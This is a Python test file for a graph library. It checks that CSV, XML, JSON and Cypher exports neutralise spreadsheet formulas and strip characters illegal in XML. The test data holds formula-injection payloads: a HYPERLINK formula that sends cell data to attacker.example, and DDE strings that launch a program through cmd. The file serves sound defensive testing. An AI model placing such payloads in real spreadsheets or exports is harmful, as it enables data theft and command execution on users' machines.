"""Hostile text in exports (issue 15, cases 8 and 9), built through the real pipeline path.

Posts whose titles hold spreadsheet formulas and characters XML 1.0 forbids are built into
a real store, loaded as the graph and exported in every format; each export is read back
by its own reader.
"""

from __future__ import annotations

import csv
import json

import networkx as nx
import pytest

from kgraph import api
from kgraph.graph.io import read_gexf
from kgraph.graph.io.files import FORMULA_STARTS, csv_cell
from kgraph.graph.io.flat import xml_text

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ILLEGAL = ["\uffff", "\ufffe", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f"]


@pytest.fixture(scope="module")
def graph(tmp_path_factory) -> nx.MultiDiGraph:
    folder = tmp_path_factory.mktemp("hostile")
    records = [
        {"id": f"f{i}", "title": f"{text} Kafka", "summary": f"{text} Postgres"}
        for i, text in enumerate(FORMULAS)
    ] + [
        {"id": f"x{i}", "title": f"Kaf{ch}ka Redis {i}", "summary": f"Bad{ch}char in Envoy"}
        for i, ch in enumerate(ILLEGAL)
    ]
    records.append({"id": "=cmd|calc", "title": "Tabs\tand Spark", "summary": "ok"})
    corpus = folder / "hostile.jsonl"
    corpus.write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    db = folder / "k.db"
    from tests.support.fake_extractor import FakeExtractor

    api.build([corpus], db=db, extractor=FakeExtractor())
    G = api.load_graph(db)
    labels = [d.get("label", "") for _n, d in G.nodes(data=True)]
    # the hostile text reached the graph, or the test proves nothing (the readers turn
    # control characters into spaces; U+FFFF and U+FFFE come through)
    assert any("\uffff" in label for label in labels)
    assert any(label.startswith("=HYPERLINK") for label in labels)
    # a library user's graph may hold anything: control characters in ids and labels too
    G.add_node("concept:ctl\x01", kind="concept", label="ctl\x00\x1b\x0b")
    G.add_node("concept:tab", kind="concept", label="\t=1+1")  # the readers strip these
    G.add_node("concept:cr", kind="concept", label="\r=1+1")
    G.add_edge("concept:ctl\x01", next(iter(G.nodes)), key="related", type="related")
    return G


def test_xml_text_replaces_exactly_the_illegal_characters():
    for ch in [*ILLEGAL, "\ud800", "\udfff"]:
        assert xml_text(f"a{ch}b") == "a\ufffdb"
    legal = "tab\tLF\nCR\r é ✓ \ud7ff\ue000\ufffd \U0001f600 \U0010ffff"
    assert xml_text(legal) == legal


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_parse_with_illegal_characters(graph, tmp_path, fmt):
    out = tmp_path / f"g.{fmt}"
    api.export(graph, fmt, out)
    H = nx.read_graphml(out, force_multigraph=True) if fmt == "graphml" else read_gexf(out)
    assert H.number_of_nodes() == graph.number_of_nodes()
    assert H.number_of_edges() == graph.number_of_edges()
    labels = [d.get("label", "") for _n, d in H.nodes(data=True)]
    assert any("Kaf\ufffdka" in label for label in labels)
    for label in labels:
        assert xml_text(label) == label


def test_json_and_cypher_exports_read_back(graph, tmp_path):
    api.export(graph, "json", tmp_path / "g.json")
    data = json.loads((tmp_path / "g.json").read_text(encoding="utf-8"))
    H = nx.node_link_graph(data, edges="edges")
    assert H.number_of_nodes() == graph.number_of_nodes()
    api.export(graph, "cypher", tmp_path / "g.cypher")
    lines = (tmp_path / "g.cypher").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2 + graph.number_of_nodes() + graph.number_of_edges()


def test_csv_cells_never_start_a_formula(graph, tmp_path):
    api.export(graph, "csv", tmp_path / "csv")
    cells = []
    for name in ("nodes.csv", "edges.csv"):
        with (tmp_path / "csv" / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.DictReader(fh))
        assert rows
        cells += [v for row in rows for v in row.values()]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    quoted = [c for c in cells if c.startswith("'")]
    for formula in FORMULAS:  # each kept in full, behind the quote
        assert any(c.startswith("'" + formula) for c in quoted), formula
    with (tmp_path / "csv" / "nodes.csv").open(encoding="utf-8", newline="") as fh:
        ids = {r["id"] for r in csv.DictReader(fh)}
    with (tmp_path / "csv" / "edges.csv").open(encoding="utf-8", newline="") as fh:
        ends = {r[k] for r in csv.DictReader(fh) for k in ("source", "target")}
    assert ends <= ids  # ids and edge ends are escaped alike


def test_csv_cell_keeps_numbers_and_plain_text():
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3
    assert csv_cell("Kafka") == "Kafka" and csv_cell("a=b") == "a=b"
    assert csv_cell("-x") == "'-x" and csv_cell("@x") == "'@x"
